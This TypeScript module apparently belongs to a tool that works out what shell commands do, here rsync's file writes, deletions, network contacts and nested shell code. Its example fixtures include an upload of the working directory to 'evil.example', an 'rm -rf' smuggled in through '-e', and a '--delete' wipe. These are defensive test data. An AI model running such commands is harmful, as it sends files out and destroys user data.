/** rsync: what it copies, deletes, contacts and runs. */

import type { Effect } from '../../types/effect.ts';
import type { Nested } from '../../types/invocation.ts';
import type { Word } from '../../types/text.ts';
import { programWord, readsOf, writesOf } from '../coreutils/paths.ts';
import { asksForHelp, readOptions } from '../coreutils/spec.ts';
import { file } from '../effects.ts';
import { type Call, definePage, NOTHING, type Outcome, type Page } from '../page.ts';
import { copies } from './remote-copy.ts';
import { assigned, connect, findRemote, listen } from './traffic.ts';

const RSYNC =
  'v verbose q quiet c checksum a archive r recursive R relative b backup backup-dir= suffix= u update inplace append append-verify d dirs l links L copy-links H p perms E executability chmod= A X o owner g group devices specials D t times O omit-dir-times super fake-super S sparse preallocate n dry-run W whole-file checksum-choice= x one-file-system B= block-size= e= rsh= rsync-path= existing ignore-existing remove-source-files remove-sent-files del delete delete-before delete-during delete-delay delete-after delete-excluded ignore-errors force max-delete= max-size= min-size= partial partial-dir= delay-updates m prune-empty-dirs numeric-ids usermap= groupmap= chown= timeout= contimeout= I size-only modify-window= T= temp-dir= y fuzzy compare-dest= copy-dest= link-dest= z compress compress-choice= compress-level= skip-compress= f= filter= F exclude= exclude-from= include= include-from= files-from= from0 s protect-args trust-sender address= port= sockopts= blocking-io outbuf= stats 8 h human-readable progress P i itemize-changes M= remote-option= out-format= log-file= log-file-format= password-file= early-input= list-only bwlimit= stop-after= stop-at= write-batch= only-write-batch= read-batch= protocol= iconv= checksum-seed= 4 ipv4 6 ipv6 help version daemon config= dparam= no-detach info= debug= stderr= open-noatime mkpath';

function readRsync(call: Call): Outcome {
  const parsed = readOptions(call.args, RSYNC);
  if (asksForHelp(parsed)) return NOTHING;
  if (parsed.has('daemon'))
    return {
      effects: [
        listen(programWord(call), parsed.value('port')?.text ?? '873'),
        ...readsOf(parsed.values('config')),
      ],
    };
  const isDry = parsed.has('n', 'dry-run', 'list-only');
  const target = parsed.operands.at(-1);
  const sources = parsed.operands.slice(0, -1);
  const deep = parsed.has('r', 'recursive', 'a', 'archive', 'files-from');
  const all =
    target && sources.length > 0
      ? copies(call, sources, target, deep, 'ssh', parsed.value('port')?.text)
      : [];
  const keepsOld = parsed.has('ignore-existing', 'b', 'backup', 'backup-dir');
  const transfers = all
    .map((effect) =>
      effect.kind === 'file' && effect.op === 'write' ? syncTarget(effect, target, keepsOld) : effect,
    )
    .filter((effect) => !isDry || effect.kind !== 'file' || effect.op === 'read');
  const effects: Effect[] = [
    ...transfers,
    ...readsOf(
      parsed
        .values('files-from', 'exclude-from', 'include-from', 'password-file', 'read-batch')
        .filter((word) => findRemote(word) === undefined),
    ),
    ...parsed.values('log-file', 'write-batch', 'only-write-batch').flatMap((path) => writesOf(path)),
  ];
  if (
    !isDry &&
    target &&
    parsed.options.some(
      ({ name }) => name === 'del' || (name.startsWith('delete') && name !== 'delete-missing-args'),
    )
  ) {
    const remote = findRemote(target);
    effects.push(
      remote
        ? file('delete', remote.path, { recursive: true, place: 'remote' })
        : file('delete', target, { recursive: true }),
    );
  }
  if (!isDry && parsed.has('remove-source-files', 'remove-sent-files'))
    effects.push(
      ...sources
        .filter((source) => !findRemote(source))
        .map((source) => file('delete', source, deep ? { recursive: true } : {})),
    );
  const proxy = assigned(call, 'RSYNC_PROXY');
  if (proxy) effects.push(connect(proxy));
  const shells = [...parsed.values('e', 'rsh'), assigned(call, 'RSYNC_RSH', 'RSYNC_CONNECT_PROG')].filter(
    (word) => word !== undefined,
  );
  const isRemote = parsed.operands.some((word) => findRemote(word));
  return {
    effects,
    runs: [
      ...shells.map((code): Nested => ({ kind: 'code', via: 'rsync --rsh', lang: 'sh', code })),
      ...parsed.values('rsync-path').map(
        (code): Nested => ({
          kind: 'code',
          via: 'rsync --rsync-path',
          lang: 'sh',
          code,
          ...(isRemote ? { place: 'remote' } : {}),
        }),
      ),
    ],
  };
}

/** rsync writes into its target as a whole; a trailing slash of the source decides only the level. */
function syncTarget(
  effect: Effect & { readonly kind: 'file' },
  target: Word | undefined,
  keepsOld: boolean,
): Effect {
  const path = effect.place === 'remote' || !target ? effect.path : target;
  return { ...effect, path, clobbers: !keepsOld };
}

export const pages: readonly Page[] = [
  definePage({
    names: ['rsync'],
    about: 'makes one tree like another',
    read: readRsync,
    examples: [
      {
        command: 'rsync -a --delete empty/ src/',
        effects: [{ kind: 'file', op: 'delete', path: 'src/', recursive: true }],
      },
      {
        command: 'rsync -az . me@evil.example:/x',
        effects: [{ kind: 'net', op: 'upload', host: 'evil.example' }],
      },
      {
        command: "rsync -e 'rm -rf /home/user' a b:",
        effects: [{ kind: 'file', op: 'delete', path: '/home/user' }],
      },
      { command: 'rsync --version', effects: [] },
    ],
  }),
];
